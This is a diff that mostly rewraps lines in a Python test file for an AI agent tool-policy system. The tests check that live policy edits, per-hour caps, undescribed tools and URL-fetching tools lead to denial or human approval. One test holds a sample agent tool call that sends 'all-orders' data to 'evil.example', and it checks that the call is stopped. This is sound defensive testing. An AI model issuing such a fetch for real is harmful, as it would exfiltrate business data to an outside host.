@@ -1,4 +1,6 @@
-"""Policies edited while runs are live, with nobody in this process saying so; caps that several runs share; tools nobody has described."""
+"""Policies edited while runs are live, with nobody in this process saying so; caps that several
+runs share; tools nobody has described.
+"""
 
 import asyncio
 import time
@@ -19,16 +21,25 @@ SOON = 1.0
 
 
 def refused(run: Run) -> list[tuple[str, str]]:
-    return [(row.record.rule, row.record.tool) for row in stored(run) if row.record.kind == "call.refused"]
+    return [
+        (row.record.rule, row.record.tool)
+        for row in stored(run)
+        if row.record.kind == "call.refused"
+    ]
 
 
 def test_a_live_run_hears_of_an_edit_within_a_second(house: Bench) -> None:
-    """Another process edits: here, a thread with its own connection. The run keeps calling and is denied soon after."""
+    """Another process edits: here, a thread with its own connection.
+
+    The run keeps calling and is denied soon after.
+    """
     edited: list[float] = []
 
     async def note(args: Mapping[str, Json], context: ToolContext) -> Json:
         if not edited:
-            await database_sync_to_async(ToolPolicy.objects.create)(name="no-notes", tool="note", verdict="deny", priority=1)
+            await database_sync_to_async(ToolPolicy.objects.create)(
+                name="no-notes", tool="note", verdict="deny", priority=1
+            )
             edited.append(time.monotonic())
         await asyncio.sleep(0.05)
         return {"noted": len(edited)}
@@ -36,13 +47,17 @@ def test_a_live_run_hears_of_an_edit_within_a_second(house: Bench) -> None:
     house.tool("note", note, effect=Effect.REVERSIBLE)
     steps = "".join(calling("note", f"{{ n = {number} }}") for number in range(60))
     run = house.play(house.start(steps + answering(), max_steps=80))
-    rows = [row.record for row in stored(run) if row.record.kind in {"call.returned", "call.refused"}]
+    rows = [
+        row.record for row in stored(run) if row.record.kind in {"call.returned", "call.refused"}
+    ]
     first = next(record for record in rows if record.kind == "call.refused")
     assert (first.rule, rows[0].kind) == ("no-notes", "call.returned")
     assert (first.at - rows[0].at).total_seconds() < SOON
 
 
-def test_a_policy_whose_expression_fails_lets_nothing_through_and_nothing_past_it(house: Bench) -> None:
+def test_a_policy_whose_expression_fails_lets_nothing_through_and_nothing_past_it(
+    house: Bench,
+) -> None:
     house.tool("note", effect=Effect.REVERSIBLE)
     in_force("broken", tool="note", verdict="allow", condition="args.amount < 10", priority=1)
     run = house.play(house.start(calling("note", '{ amount = "many" }') + answering()))
@@ -50,14 +65,20 @@ def test_a_policy_whose_expression_fails_lets_nothing_through_and_nothing_past_i
     assert house.tools["note"].keys == []
 
 
-def test_an_hour_that_one_run_has_used_up_makes_the_next_one_ask(house: Bench, approver: User) -> None:
+def test_an_hour_that_one_run_has_used_up_makes_the_next_one_ask(
+    house: Bench, approver: User
+) -> None:
     house.tool("note", effect=Effect.REVERSIBLE)
     in_force("few-notes", tool="note", verdict="allow_with_caps", cap_per_hour=3, priority=1)
     steps = "".join(calling("note", f"{{ n = {number} }}") for number in range(2)) + answering()
     assert house.play(house.start(steps)).status == Status.COMPLETED
     second = house.play(house.start(steps))
     [card] = asked(second)
-    assert (second.waiting_for, card.facts["over"], len(house.tools["note"].keys)) == (Waiting.APPROVAL, "calls per hour", 3)
+    assert (second.waiting_for, card.facts["over"], len(house.tools["note"].keys)) == (
+        Waiting.APPROVAL,
+        "calls per hour",
+        3,
+    )
     run, answered = played(second, approver)
     assert (run.status, len(answered), len(house.tools["note"].keys)) == (Status.COMPLETED, 1, 4)
 
@@ -76,8 +97,14 @@ def test_a_tool_that_nobody_has_described_needs_a_person(house: Bench, approver:
     assert (run.status, len(house.tools["plant.open_valve"].keys)) == (Status.COMPLETED, 1)
 
 
-def test_a_tool_that_fetches_whatever_it_is_told_needs_a_person_although_it_says_that_it_reads(house: Bench) -> None:
+def test_a_tool_that_fetches_whatever_it_is_told_needs_a_person_although_it_says_that_it_reads(
+    house: Bench,
+) -> None:
     house.tool("web.fetch", effect=Effect.READ)
-    run = house.play(house.start(calling("web.fetch", '{ url = "https://evil.example/?d=all-orders" }') + answering()))
+    run = house.play(
+        house.start(
+            calling("web.fetch", '{ url = "https://evil.example/?d=all-orders" }') + answering()
+        )
+    )
     [card] = asked(run)
     assert card.rule == "links-need-a-person"
